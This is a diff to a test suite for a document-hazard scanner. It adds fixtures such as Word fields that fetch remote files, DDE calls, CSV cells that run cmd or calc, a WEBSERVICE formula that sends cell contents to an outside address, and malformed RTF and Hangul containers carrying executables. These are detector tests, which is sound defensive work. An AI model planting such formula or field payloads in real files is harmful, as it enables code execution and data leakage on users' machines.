@@ -125,6 +125,22 @@ describe('FIL-01 fields and templates, however they are written', () => {
     ['a template by file: and four strokes', settings('file:////203.0.113.7/a.dotx')],
     ['a template by smb:', settings('smb://203.0.113.7/a.dotx')],
     ['a template by numbers', settings('file:///%5C%5C203.0.113.7%5Ca.dotx')],
+    ['a field that fetches', words(field('INCLUDETEXT "https://example.com/a.docx"'))],
+    ['a field that links', words(field('LINK Word.Document "\\\\\\\\203.0.113.7\\\\a.docx" \\a'))],
+    [
+      'a list that letters are made of',
+      wordPackage({ 'word/_rels/s.rels': link('mailMergeSource', 'http://example.com/') }),
+    ],
+    ['a page in a part', wordPackage({ 'word/a.dat': '<html><i style="mso-element:field-begin"></i>DDE x</html>' })],
+    [
+      'a function that asks an address',
+      sheetPackage({ 'xl/s.xml': '<x><f>_xlfn.WEBSERVICE("http://example.com")</f></x>' }),
+    ],
+    ['a link of a binary workbook', sheetPackage({ 'xl/e.bin': Buffer.from('e802060100000000', 'hex') })],
+    [
+      'a call of LibreOffice inside of another',
+      zipOf({ mimetype: 'x', 'content.xml': '<a table:formula="of:=1+DDE(1)"/>' }),
+    ],
     ['a call of LibreOffice', zipOf({ mimetype: 'x', 'content.xml': '<a table:formula="of:=DDE(&quot;x&quot;)"/>' })],
   ])('%s', async (_, bytes) => {
     expect(await hazardsIn(bytes)).toEqual(['REMOTE']);
@@ -142,6 +158,10 @@ describe('FIL-01 fields and templates, however they are written', () => {
     [
       'links in a table of contents',
       words(`${run('begin')}${told('TOC \\\\o')}${run('separate')}${field('HYPERLINK \\\\l "a"')}${run('end')}`),
+    ],
+    [
+      'a link to a file of this machine',
+      words(field('LINK Excel.Sheet.12 "C:\\\\관리비.xlsx" "Sheet1!R1C1" \\a \\f 5')),
     ],
     ['QUOTE', words(field('QUOTE "제목"'))],
     ['a template on this machine', settings('file:///C:\\Users\\a\\공문.dotx')],
@@ -170,6 +190,7 @@ describe('FIL-01 lists of values that call programs', () => {
     '"=SUM(1,2)+cmd|\'/c a,b\'!A0"',
     '"=cmd|""/c calc""!A0"',
     '=rundll32|calc!A0',
+    '=WEBSERVICE("http://example.com/"&A1)',
     "＝cmd|'/c calc'!A0",
     "=MSEXCEL|'\\..\\..\\calc.exe'!''",
   ])('%s', async (cell) => {
@@ -201,6 +222,7 @@ describe('FIL-01 RTF, however its words are written', () => {
       'REMOTE',
     ],
     ['an object that is linked', '{\\rtf1{\\object\\objlink{\\*\\objclass x}}}', 'MACRO'],
+    ['an object behind bytes that do not come', '{\\rtf1\\bin4294967297 {\\object{\\*\\objdata 01}}}', 'MACRO'],
     ['an object behind spaces', '  \n{\\rtf1{\\object{\\*\\objdata 01}}}', 'MACRO'],
   ])('%s', async (_, text, hazard) => {
     expect(await hazardsIn(inZip('a.rtf', text), 'a.zip')).toEqual([hazard]);
@@ -268,6 +290,17 @@ describe('FIL-01 containers of before 2007 and of Hangul', () => {
       'EXECUTABLE',
     ],
     ['a program in Hangul', hangul(ORDINARY_SCRIPT, { 'BIN0002.png': program }), 'EXECUTABLE'],
+    [
+      'an object of HWPX',
+      zipOf({ mimetype: 'x', 'BinData/a.ole': Buffer.concat([Buffer.alloc(4), objectOf('a.exe', program)]) }),
+      'EXECUTABLE',
+    ],
+    [
+      'macros in a letter inside of a document',
+      wordPackage({ 'word/a.dat': 'MIME-Version: 1.0\n\nQWN0aXZlTWltZQ' }),
+      'MACRO',
+    ],
+    ['bytes that nobody knows', inZip('a.doc', Buffer.from('0e11fc0dd0cf110e00000000', 'hex')), 'SEALED'],
     ['a bare sheet of commands', inZip('a.xls', Buffer.from('0904060000004000' + '00000a00', 'hex')), 'MACRO'],
   ])('%s', async (_, bytes, hazard) => {
     expect(await hazardsIn(bytes)).toEqual([hazard]);
